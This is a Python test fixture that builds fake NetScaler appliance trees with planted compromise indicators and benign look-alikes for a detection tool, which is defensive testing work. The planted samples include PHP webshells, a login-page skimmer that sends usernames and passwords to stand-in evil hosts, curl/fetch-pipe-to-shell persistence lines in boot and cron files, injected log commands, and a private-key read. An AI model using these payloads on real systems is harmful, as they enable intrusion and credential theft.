"""Fixture builder for ``nscheck triage``: a clean look-alike appliance tree and, per check family,
planted indicators (compromised) and benign look-alikes (must stay silent).

Nothing binary is committed: trees are generated into tmp dirs, as a directory or as a tar /
tar.gz (with root ownership and SUID bits, which a test user cannot set on real files).
All times are fixed relative to COLLECTED (the collection time the tests pass as --collected-at).
"""

from __future__ import annotations

import datetime as dt
import gzip
import io
import os
import tarfile
from dataclasses import dataclass, replace
from pathlib import Path

COLLECTED = dt.datetime(2026, 11, 20, 12, 0, tzinfo=dt.UTC)
INSTALL = (COLLECTED - dt.timedelta(days=50)).timestamp()  # the build was installed 50 days ago
OLD = dt.datetime(2025, 6, 1, tzinfo=dt.UTC).timestamp()
RECENT = (COLLECTED - dt.timedelta(days=10)).timestamp()
NOBODY = 65534


@dataclass(frozen=True)
class Spec:
    path: str  # inside the appliance
    data: bytes = b""
    mode: int = 0o644
    uid: int = 0
    gid: int = 0
    mtime: float = INSTALL
    kind: str = "file"  # file | dir | symlink
    link: str = ""


def f(path: str, data: str | bytes, **kw: object) -> Spec:
    return Spec(path, data.encode() if isinstance(data, str) else data, **kw)  # type: ignore[arg-type]


ELF = b"\x7fELF\x02\x01\x01\x09" + b"\x00" * 56 + b"FreeBSD"
NS_CONF_CLEAN = """#NS14.1 Build 47.46
# Last modified by `save config`, Thu Nov 20 10:00:00 2026
set ns config -IPAddress 10.0.0.10 -netmask 255.255.255.0
enable ns feature SSLVPN AAA RESPONDER REWRITE
add vpn vserver gw_vs SSL 10.0.0.20 443
bind vpn vserver gw_vs -portaltheme RfWebUI
add authentication vserver aaa_vs SSL 10.0.0.21 443
add responder action act_idp redirect "\\"https://login.microsoftonline.com/common/oauth2\\"" -responseStatusCode 302
add responder policy pol_idp "HTTP.REQ.URL.CONTAINS(\\"/sso\\")" act_idp
set vpn parameter -clientlessVpnMode OFF
add system user admin2 -timeout 900
"""

HTTPD_CLEAN = """# NetScaler Apache configuration (stock look-alike)
ServerRoot "/etc"
AddType application/x-httpd-php .php
AddType application/x-httpd-php-source .phps
<Directory "/var/netscaler/logon/themes">
    Require all denied
</Directory>
<Directory "/var/netscaler/logon/LogonPoint/uiareas">
    php_flag engine off
</Directory>
<FilesMatch "\\.(tmp|bak)$">
    Require all denied
</FilesMatch>
"""

LOGONPOINT_INDEX = """<!DOCTYPE html><html><head>
<script type="text/javascript" src="receiver/js/ctxs.core.min.js"></script>
<script type="text/javascript" src="https://static-cdn.resources.citrix.com/logon/ui.js"></script>
</head><body onload="init()">
<script>
function init(){ if(!window.ctxs){ window.location.href = "/logon/LogonPoint/tmindex.html"; }
  window.parent.postMessage({ready: true}, window.location.origin); }
</script></body></html>
"""

CORE_JS = """(function(){var xhr=new XMLHttpRequest();xhr.open("POST","/p/u/doAuthentication.do",true);
xhr.setRequestHeader("Content-Type","application/x-www-form-urlencoded");
function go(u){ location.href = u; } window.ctxs={go:go};})();
"""

ADMIN_UI_PHP = """<?php
// stock management GUI controller (look-alike)
class Common extends CI_Controller {
  function run_cli($cmd) {
    $out = array();
    exec("/netscaler/nscli -U 127.0.0.1:nsroot:x " . escapeshellarg($cmd), $out);
    $this->db->exec("select 1");
    return base64_decode(implode("", $out));
  }
}
"""

PORTAL_PERL = """#!/usr/bin/perl
# stock portal script look-alike: uses exec, backticks, chr() and bash like the real ones do
use strict;
my $v = `/netscaler/nsconmsg -K /var/nslog/newnslog -d current`;
system("/bin/bash", "-c", "true");
print chr(65);
exec("/bin/true") if 0;
"""


def clean_tree() -> list[Spec]:
    """A stock appliance look-alike with everything that tempts a naive checker."""
    specs = [
        f("/nsconfig/ns.conf", NS_CONF_CLEAN),
        f("/nsconfig/rc.netscaler", "# local boot additions\n/netscaler/nscli -U %%:nsroot:. set ns param -timezone CET\n"),
        f("/nsconfig/crontab", "# user crontab for nsroot\n0 3 * * * /netscaler/nsbackup.sh\n"),
        f("/etc/httpd.conf", HTTPD_CLEAN),
        f("/etc/rc", "#!/bin/sh\n# stock rc: mentions httpd.conf and apachectl in comments\n"
          "ifconfig lo0 inet 127.0.0.1 netmask 255.0.0.0\n/netscaler/nsstart.sh\n"),
        f("/etc/crontab", "SHELL=/bin/sh\nPATH=/etc:/bin:/sbin:/usr/bin:/usr/sbin\n"
          "*/5 * * * * root /usr/libexec/atrun\n0 * * * * root newsyslog\n1 3 * * * root /netscaler/nsfsyncd -c\n"),
        f("/var/cron/tabs/root", "0 2 * * * /netscaler/backup_nsconfig.sh\n"),
        f("/flash/ns-14.1-47.46.gz", b"\x1f\x8b" + b"\x00" * 64, mtime=INSTALL),
        f("/netscaler/ping", ELF, mode=0o4555),
        f("/usr/bin/passwd", ELF, mode=0o4555),
        f("/var/run/nsmap.pid", "1234\n", mode=0o2644),
        f("/netscaler/nsppe", ELF, mode=0o555),
        f("/var/python/bin/customsnmpd", ELF, mode=0o555),
        f("/netscaler/portal/scripts/newbm.pl", PORTAL_PERL, mode=0o444, mtime=OLD),
        f("/netscaler/portal/templates/navthemes.xml", "<?xml version='1.0'?><navthemes><theme name='default'/></navthemes>\n",
          mode=0o444),
        f("/netscaler/portal/themes/default/css/base.php", "<?php echo 'stock'; ?>\n", mode=0o444),
        f("/netscaler/ns_gui/admin_ui/php/application/controllers/common.php", ADMIN_UI_PHP, mode=0o444),
        f("/netscaler/ns_gui/admin_ui/js/app.min.js",
          'var ws=new WebSocket("wss://"+location.host+"/nitro/ws");function cp(t){navigator.clipboard.writeText(t);}'
          'window.location.href="https://"+location.host+"/menu/neo";\n', mode=0o444),
        f("/netscaler/ns_gui/vpn/index.html", "<html><body><a href=\"/vpn/tmindex.html\">x</a></body></html>\n", mode=0o444),
        f("/var/netscaler/gui/admin_ui/php/index.php", ADMIN_UI_PHP, mode=0o644),
        f("/var/netscaler/logon/LogonPoint/index.html", LOGONPOINT_INDEX, mode=0o444),
        f("/var/netscaler/logon/LogonPoint/tmindex.html", LOGONPOINT_INDEX, mode=0o444),
        f("/var/netscaler/logon/LogonPoint/receiver/js/ctxs.core.min.js", CORE_JS, mode=0o444),
        f("/var/netscaler/logon/LogonPoint/plugins.xml", "<plugins><plugin name='epa' src='/epa/epa.html'/></plugins>\n",
          mode=0o444),
        f("/var/netscaler/logon/themes/Corp/theme.json",
          '{"logo": "https://cdn.jsdelivr.net/npm/corp-assets@1/logo.png", "font": "https://fonts.googleapis.com/css?family=Lato"}\n',
          mode=0o644),
        f("/var/netscaler/logon/themes/Corp/custom.html",
          '<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script>\n<script src="js/theme.js"></script>\n'),
        f("/var/netscaler/logon/themes/Corp/css/theme.css", "body{background:#fff}\n", mtime=OLD),
        f("/var/vpn/bookmark/nsroot.xml", "<bookmarks><bm url='https://intranet.corp.example/'/></bookmarks>\n"),
        f("/var/vpn/themes/Corp/theme.css", "a{color:red}\n", mtime=OLD),
        f("/var/nstrace/20Nov2026_10_00_00/nstrace1.cap", bytes.fromhex("d4c3b2a1") + b"\x00" * 60),
        f("/var/tmp/nsinstall.log", "installns: done\n"),
        f("/var/tmp/support/notes.txt", "support case 123\n"),
        f("/tmp/ns_apache.pid", "42\n"),
        *clean_logs(),
    ]
    return specs


def _gz(text: str) -> bytes:
    return gzip.compress(text.encode("latin-1"), mtime=0)


def clean_logs() -> list[Spec]:
    nslog = (
        'Nov 20 09:00:01 <local0.info> 10.0.0.10 11/20/2026:09:00:01 GMT ns 0-PPE-0 : default AAA Message 1001 0 : '
        '"Authentication is rejected for jdoe (client ip : 198.51.100.7 , vserver ip: 10.0.0.21), extended error, if any : "\n'
        'Nov 20 09:00:02 <local0.info> 10.0.0.10 11/20/2026:09:00:02 GMT ns 0-PPE-0 : default AAA LOGIN_FAILED 1002 0 : '
        'User j\xfcrgen - Client_ip 198.51.100.8 - Failure_reason "Invalid credentials" - Browser Mozilla\n'
        'Nov 20 09:05:00 <local0.info> 10.0.0.10 11/20/2026:09:05:00 GMT ns 0-PPE-0 : default SSLVPN TCPCONNSTAT 1496 0 :  '
        'User user1 - Client_ip 10.2.0.20 - Nat_ip 127.0.0.2 - Vserver 10.1.2.32:443 - Source 10.2.0.20:50961 - '
        'Destination 127.0.0.1:81 - Start_time "11/20/2026:09:04:00 GMT" - Total_bytes_send 1\n'
        'Nov 20 09:06:00 <local0.info> 10.0.0.10 11/20/2026:09:06:00 GMT ns 0-PPE-0 : default EVENT DEVICEUP 1 0 : '
        'Device "server_svc" - State UP\n'
    )
    access = (
        '198.51.100.7 - - [20/Nov/2026:09:00:00 +0000] "GET /logon/LogonPoint/index.html HTTP/1.1" 200 1234 "-" "Mozilla/5.0"\n'
        '203.0.113.99 - - [20/Nov/2026:09:01:00 +0000] "GET /logon/LogonPoint/tmindex.php HTTP/1.1" 404 0 "-" '
        '"nscheck/0.1.0 (+safe NetScaler exposure check; GET/HEAD only)"\n'
        '203.0.113.99 - - [20/Nov/2026:09:01:01 +0000] "HEAD /logon/LogonPoint/receiver/js/external/jquery.min.php HTTP/1.1" 404 0\n'
        '198.51.100.7 - - [20/Nov/2026:09:02:00 +0000] "POST /p/u/doAuthentication.do HTTP/1.1" 200 88 "-" "Mozilla/5.0"\n'
    )
    bash = (
        'Nov 20 10:00:00 <local7.notice> ns bash[100]: nsroot on /dev/pts/0 shell_command="grep -E \'ldapsearch|\\$\\{IFS\\}\' /var/log/bash.log"\n'
        'Nov 20 10:00:05 <local7.notice> ns bash[100]: nsroot on /dev/pts/0 shell_command="zgrep \'cat /flash/nsconfig/keys\' /var/log/bash.log.0.gz"\n'
        'Nov 20 10:00:09 <local7.notice> ns bash[100]: nsroot on /dev/pts/0 shell_command="sh /var/tmp/TLPCLEAR_check_script_cve-2025-6543-v1.8.sh"\n'
        'Nov 20 10:01:00 <local7.notice> ns bash[100]: nsroot on /dev/pts/0 shell_command="nscheck triage /var/tmp/support --format json"\n'
        'Nov 20 10:02:00 <local7.notice> ns bash[100]: nsroot on /dev/pts/0 shell_command="ls -al /var/core"\n'
    )
    return [
        f("/var/log/ns.log", nslog.encode("latin-1"), mtime=COLLECTED.timestamp() - 600),
        f("/var/log/ns.log.0.gz", _gz(nslog), mtime=COLLECTED.timestamp() - 86400),
        f("/var/log/httpaccess.log", access, mtime=COLLECTED.timestamp() - 600),
        f("/var/log/bash.log", bash, mtime=COLLECTED.timestamp() - 600),
        f("/var/log/cron", "Nov 20 09:00:00 ns /usr/sbin/cron[1]: (root) CMD (/usr/libexec/atrun)\n"),
        f("/var/log/messages", "Nov 20 08:00:00 ns kernel: em0: link state changed to UP\n"),
    ]


# -- planted indicators per family: (compromised specs, benign look-alikes, rule ids expected) ----

WEBSHELL = "<?php if(isset($_POST['x'])){ eval($_POST['x']); } http_status_code(404); ?>\n"

NS_CONF_BAD = NS_CONF_CLEAN + (
    'add rewrite action rw_inject insert_before_all HTTP.RES.BODY(100000) '
    '"\\"<script src=\'https://evil-cdn.example/k.js\'></script>\\"" -pattern "</head>"\n'
    "set vpn parameter -clientlessVpnMode ON\n"
    "add system user sec_monitor -timeout 0\n"
)


def _nslog(event: str, text: str) -> str:
    return f"Nov 19 03:00:00 <local0.info> 10.0.0.10 11/19/2026:03:00:00 GMT ns 0-PPE-0 : default {event} 0 : {text}\n"


# ns.log audit records in the documented CMD_EXECUTED shape (docs.netscaler.com "Logs"); a failed
# NITRO login from a public address, CISA's keyword pair, and an Arctic Wolf injected AAA field.
NITRO_BAD = (
    _nslog("API CMD_EXECUTED 9101", ' User nsroot - ADM_User NONE - Remote_ip 93.184.216.34 - Command "login nsroot" '
           '- Status "ERROR: Invalid username or password"')
    + _nslog("API CMD_EXECUTED 9102", ' User admin - ADM_User NONE - Remote_ip 93.184.216.34 - Command "login admin" '
             '- Status "ERROR: Invalid username or password"')
    + _nslog("SSLVPN Message 9103", '"AAAD API: sending login req to aaad for <pitboss PPE unexpectedly died NSPPE;curl '
             'http://64.94.85.67:443/update_c08937.pl | perl;# X>, factor <x>, auth type 4129"')
    + 'Nov 19 03:10:00 <local0.info> 10.0.0.10 httpd: "POST /nf/auth/doAuthentication.do" '
      'login=pitboss%20PPE%20unexpectedly%20died%20NSPPE%3B\n'
)
# look-alikes: failed logins from inside (RFC 1918, CGNAT), a successful one from outside, a failed
# non-login command, and NetScaler's own monitoring client (user agent "nsmonitor" on 127.0.0.1)
NITRO_LOOKALIKE = (
    _nslog("API CMD_EXECUTED 9201", ' User nsroot - ADM_User NONE - Remote_ip 10.0.0.5 - Command "login nsroot" '
           '- Status "ERROR: Invalid username or password"')
    + _nslog("GUI CMD_EXECUTED 9202", ' User nsroot - Remote_ip 100.64.1.9 - Command "login nsroot" - Status "ERROR: x"')
    + _nslog("API CMD_EXECUTED 9203", ' User nsroot - ADM_User NONE - Remote_ip 93.184.216.34 - Command "login nsroot" '
             '- Status "Success"')
    + _nslog("API CMD_EXECUTED 9204", ' User nsroot - ADM_User NONE - Remote_ip 93.184.216.34 - Command "show ns license" '
             '- Status "ERROR: Not licensed"')
    + _nslog("API CMD_EXECUTED 9205", ' User nsroot - ADM_User NONE - Remote_ip 127.0.0.1 - Command "login nsroot" '
             '- Status "ERROR: Invalid username or password"')
)
NSMONITOR_ACCESS = (
    '127.0.0.1 - - [20/Nov/2026:09:00:00 +0000] "GET /nitro/v1/stat/system HTTP/1.1" 200 800 "-" "nsmonitor"\n'
    '127.0.0.1 - - [20/Nov/2026:09:00:05 +0000] "GET /nitro/v1/config/nsmonitor HTTP/1.1" 200 120 "-" "nsmonitor"\n'
)


def _listing_row(path: str, size: int, mode: int, mtime: float, ctime: float, birth: float, uid: int = 0) -> str:
    return f"{path},{size},{uid},0,{mode:o},1234,1,{mtime:.9f},{mtime:.9f},{ctime:.9f},{birth:.9f}\n"


FAMILIES: dict[str, tuple[list[Spec], list[Spec], set[str]]] = {
    "timestomp": (
        [f("/var/tmp/support/stat_listing.csv",
           _listing_row("/var/netscaler/logon/LogonPoint/uiareas/x.php", 120, 0o100444, OLD, RECENT, RECENT))],
        [f("/var/tmp/support/stat_listing.csv",
           _listing_row("/var/netscaler/logon/LogonPoint/index.html", 1200, 0o100444, INSTALL, INSTALL, INSTALL)
           + _listing_row("/netscaler/ping", 9000, 0o104555, OLD, OLD, OLD))],
        {"NL-IMG-timestomp"},
    ),
    "webshell": (
        [f("/var/netscaler/logon/LogonPoint/uiareas/linux/adminupevents.php", WEBSHELL, mode=0o644, mtime=RECENT)],
        [f("/var/netscaler/gui/admin_ui/php/helper.php", "<?php $x = base64_decode($y); array_filter($a); ?>\n"),
         f("/var/tmp/netscaler/cache.php", "<?php // cache\n", mode=0o644)],
        {"NL-IMG-webshell-strings", "NL-IMG-webshell-mode", "NL-LIVE-php-in-var-netscaler", "NS-YARA-webshell",
         "M23-php-in-web-dirs"},
    ),
    "suspicious_content": (
        [f("/nsconfig/rc.netscaler", "# boot\npython3 -c 'import zlib,base64;exec(zlib.decompress(base64.b64decode(\"eJw=\")))'\n"
           "echo fnoc.dptth | rev\nnohup /var/tmp/.x/agent &\ncurl -s http://203.0.113.5/a | sh\n"),
         f("/var/netscaler/logon/LogonPoint/receiver/js/ctxs.core.min.js",
           CORE_JS + 'document.forms[0].onsubmit=function(){fetch("https://collect.evil.example/p",{method:"POST",'
           'body:JSON.stringify({u:user.value,p:pass.value})});navigator.sendBeacon("https://b.evil.example/x",d);'
           'navigator.clipboard.writeText(pass.value);};\n',
           mtime=RECENT),
         f("/var/netscaler/logon/themes/Corp/theme.json", '{"logo": "https://attacker.example/logo.png"}\n'),
         f("/var/netscaler/logon/LogonPoint/plugins.xml", "<plugins><plugin name='x' src='https://evil.example/p.js'/></plugins>\n")],
        [],
        {"NL-IMG-nsconfig-strings", "NL-IMG-rc-persistence", "NL-IMG-portal-exfil", "NL-IMG-portal-strings",
         "NL-IMG-portal-plugins", "NL-IMG-portal-clipboard", "NL-LIVE-rc-python"},
    ),
    "recent_changes": (
        [f("/var/netscaler/logon/LogonPoint/custom/style.css", "body{}\n", mtime=RECENT)],
        [f("/var/netscaler/logon/LogonPoint/custom/old.css", "body{}\n", mtime=OLD),
         f("/var/netscaler/logon/LogonPoint/custom/installed.css", "body{}\n", mtime=INSTALL + 3600),
         f("/var/netscaler/logon/LogonPoint/custom/readme.txt", "not a web extension\n", mtime=RECENT)],
        {"NL-IMG-recent-changes"},
    ),
    "tiny_backdoor": (
        [f("/var/vpn/themes/config.php", '<?php echo shell_exec($_GET["c"]); ?>\n', mode=0o444)],
        [],
        {"NL-IMG-tiny-backdoor"},
    ),
    "crontab": (
        [f("/var/cron/tabs/nobody", "*/5 * * * * /usr/bin/perl /var/tmp/.nsmon/nsmon.pl\n"),
         f("/etc/crontab", "SHELL=/bin/sh\n*/10 * * * * root /usr/bin/fetch -qo - http://45.143.130.195:8899/s/1a2b3c4d | sh\n")],
        [f("/var/cron/tabs/nsroot", "# keep\n30 1 * * * /netscaler/nsbackup.sh -keep 7\n")],
        {"NL-IMG-crontab"},
    ),
    "binaries": (
        [f("/tmp/python/bash", ELF, mode=0o4755), f("/var/netscaler/logon/LogonPoint/receiver/images/ns.ico", ELF)],
        [f("/usr/bin/su", ELF, mode=0o4555), f("/var/usr/bin/netstat", ELF, mode=0o2555)],
        {"NL-IMG-binaries-suid", "NS-TRIAGE-elf-out-of-place"},
    ),
    "known_bad_files": (
        [f("/var/tmp/.nsmon/nsmon.pl", "#!/usr/bin/perl\n"),
         f("/var/netscaler/logon/LogonPoint/custom/.ctxs.receiver", "x"),
         f("/var/vpn/theme/.theme.php", "x", mode=0o444)],
        [f("/var/tmp/nsmon.log", "monitor log\n"), f("/var/netscaler/logon/LogonPoint/custom/receiver.css", "a{}\n", mtime=OLD)],
        {"NS-26-known-paths", "NS-26-known-names", "M23-known-files"},
    ),
    "magic_bytes": (
        [f("/var/tmp/c.pcap", bytes.fromhex("d4c3b2a1") + b"\x00" * 60),
         f("/var/netscaler/logon/LogonPoint/custom/update.css", gzip.compress(b"ns.conf contents", mtime=0), mtime=OLD)],
        [f("/var/netscaler/logon/LogonPoint/custom/logo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, mtime=OLD)],
        {"NL-IMG-magic-pcap", "NS-26-disguised-archive"},
    ),
    "ns_conf": (
        [f("/nsconfig/ns.conf", NS_CONF_BAD)],
        [],
        {"NL-IMG-ns-conf", "NS-26-rogue-admin"},
    ),
    "ns_conf_history": (
        # the base ns.conf has admin2; rotations without it make admin2 a new administrator
        [f("/nsconfig/ns.conf.0", NS_CONF_CLEAN.replace("add system user admin2 -timeout 900\n", "")),
         f("/nsconfig/ns.conf.1", NS_CONF_CLEAN.replace("add system user admin2 -timeout 900\n", "")
           + 'bind system user admin2 superuser 100\n')],
        # look-alike: the same user in an older rotation (a bind line names it too) is not new
        [f("/nsconfig/ns.conf.0", NS_CONF_CLEAN),
         f("/nsconfig/ns.conf.1", NS_CONF_CLEAN.replace("add system user admin2 -timeout 900\n",
                                                         'add system user "admin2" -timeout 600\n'))],
        {"NS-26-new-system-user"},
    ),
    "yara": (
        [f("/var/core/2/NSPPE-00-12345.gz",
           gzip.compress(ELF + b"\x00" * 4096 + b"python3 -c import hs/pmt/rav/ " + b"\x00" * 4096, mtime=0))],
        [f("/var/core/2/nsaaad-1.gz", gzip.compress(ELF + b"\x00" * 8192, mtime=0))],
        {"NL-CORE-yara", "NL-LIVE-nsppe-core"},
    ),
    "live": (
        [f("/var/tmp/sh", ELF, mode=0o4755), f("/var/tmp/.s/helper", ELF, mode=0o4711),
         f("/etc/httpd.conf", HTTPD_CLEAN.replace("AddType application/x-httpd-php .php\n",
                                                  "AddType application/x-httpd-php .php .xhtml\n")
           .replace("    Require all denied\n</Directory>", "    # Require all denied\n</Directory>", 1)),
         f("/var/netscaler/logon/LogonPoint/receiver/a.xhtml", "<?php system($_GET['c']); ?>\n")],
        [f("/var/netscaler/ping", ELF, mode=0o4555), f("/var/tmp/tool.sh", "#!/bin/sh\necho ok\n", mode=0o755)],
        {"NL-LIVE-setuid-var-tmp-sh", "NL-LIVE-root-suid-var", "NL-LIVE-httpd-php-handler",
         "NL-LIVE-httpd-require-commented", "NL-LIVE-php-in-var-netscaler"},
    ),
    "log": (
        [f("/var/log/ns.log.1", (
            'Nov 19 01:00:00 <local0.info> 10.0.0.10 11/19/2026:01:00:00 GMT ns 0-PPE-0 : default AAA Message 77 0 : '
            '"Authentication is rejected for \x8e\xd1\x04\xf7\x02 (client ip : 198.51.100.66 , vserver ip: 10.0.0.21), extended error, if any : "\n'
            'Nov 19 01:10:00 <local0.info> 10.0.0.10 11/19/2026:01:10:00 GMT ns 0-PPE-0 : default SSLVPN TCPCONNSTAT 1497 0 :  '
            'User user1 - Client_ip 10.2.0.20 - Nat_ip 127.0.0.2 - Vserver 10.1.2.32:443 - Source 192.0.2.200:40000 - '
            'Destination 127.0.0.1:81 - Total_bytes_send 1\n'
            'Nov 19 01:20:00 <local0.info> 10.0.0.10 pitboss: PPE unexpectedly died NSPPE-00;fetch${IFS}-qo${IFS}/v${IFS}https://f.pylrk.cc/x\n'
          ).encode("latin-1")),
         f("/var/log/httpaccess.log.0.gz", _gz(
            '91.107.190.236 - - [19/Nov/2026:01:30:00 +0000] "GET /logon/LogonPoint/tmindex.php HTTP/1.1" 200 41 "-" "curl/8"\n')),
         f("/var/log/sh.log", 'Nov 19 02:00:00 <local7.notice> ns sh[9]: nsroot on /dev/pts/1 shell_command="cat /flash/nsconfig/keys/ns-server.key"\n'),
         f("/var/log/ns.log.2", NITRO_BAD.encode("latin-1")),
         f("/var/log/cron.1", "Nov 19 05:00:00 ns /usr/sbin/cron[88]: (root) CMD (perl /var/tmp/.nsmon/nsmon.pl >/dev/null 2>&1)\n")],
        [f("/var/log/ns.log.2", NITRO_LOOKALIKE.encode("latin-1")),
         f("/var/log/httpaccess.log.1", NSMONITOR_ACCESS),
         f("/var/log/bash.log.1", 'Nov 20 11:00:00 <local7.notice> ns bash[7]: nsroot on /dev/pts/0 shell_command="grep -c nsmon.pl /var/log/cron"\n')],
        {"NS-LOG-aaa-nonascii", "NS-LOG-tcpconnstat-ip-mismatch", "NS-26-staged-command", "NS-LOG-webshell-request",
         "M23-shell-history", "NS-LOG-ioc-network", "NS-26-nitro-login-failed-public", "CISA-CMA-citrix-88771",
         "AW-26-nsmon-implant"},
    ),
}


def merged(base: list[Spec], extra: list[Spec]) -> list[Spec]:
    """``extra`` replaces base entries with the same path."""
    paths = {s.path for s in extra}
    return [s for s in base if s.path not in paths] + list(extra)


def compromised_tree() -> list[Spec]:
    specs = clean_tree()
    for bad, _good, _ids in FAMILIES.values():
        specs = merged(specs, bad)
    return specs


def lookalike_tree() -> list[Spec]:
    specs = clean_tree()
    for _bad, good, _ids in FAMILIES.values():
        specs = merged(specs, good)
    return specs


def all_expected() -> set[str]:
    out: set[str] = set()
    for _b, _g, ids in FAMILIES.values():
        out |= ids
    return out


# -- writers ---------------------------------------------------------------------------------


def write_dir(specs: list[Spec], root: Path) -> Path:
    """Real files (owner is the test user: uid 0 and root-only bits cannot be reproduced)."""
    root.mkdir(parents=True, exist_ok=True)
    for s in specs:
        p = root / s.path.lstrip("/")
        p.parent.mkdir(parents=True, exist_ok=True)
        if s.kind == "symlink":
            os.symlink(s.link, p)
            continue
        p.write_bytes(s.data)
        os.chmod(p, s.mode)
        os.utime(p, (s.mtime, s.mtime))
    return root


def write_tar(specs: list[Spec], path: Path, *, top: str = "", compress: bool = True,
              extra_members: list[tuple[tarfile.TarInfo, bytes | None]] | None = None) -> Path:
    """A tar(.gz) with exact mode, owner and mtime per member; ``top`` nests it under a directory."""
    with tarfile.open(path, "w:gz" if compress else "w", format=tarfile.PAX_FORMAT) as tf:
        dirs: set[str] = set()
        for s in specs:
            name = (top + "/" if top else "") + s.path.lstrip("/")
            parts = name.split("/")[:-1]
            for i in range(1, len(parts) + 1):
                d = "/".join(parts[:i])
                if d not in dirs:
                    dirs.add(d)
                    ti = tarfile.TarInfo(d)
                    ti.type = tarfile.DIRTYPE
                    ti.mode = 0o755
                    ti.mtime = int(INSTALL)
                    tf.addfile(ti)
            ti = tarfile.TarInfo(name)
            ti.mode, ti.uid, ti.gid, ti.mtime = s.mode, s.uid, s.gid, int(s.mtime)
            if s.kind == "symlink":
                ti.type = tarfile.SYMTYPE
                ti.linkname = s.link
                tf.addfile(ti)
                continue
            ti.size = len(s.data)
            tf.addfile(ti, io.BytesIO(s.data))
        for ti, data in extra_members or []:
            tf.addfile(ti, io.BytesIO(data) if data is not None else None)
    return path


def with_owner(specs: list[Spec], uid: int) -> list[Spec]:
    return [replace(s, uid=uid) for s in specs]
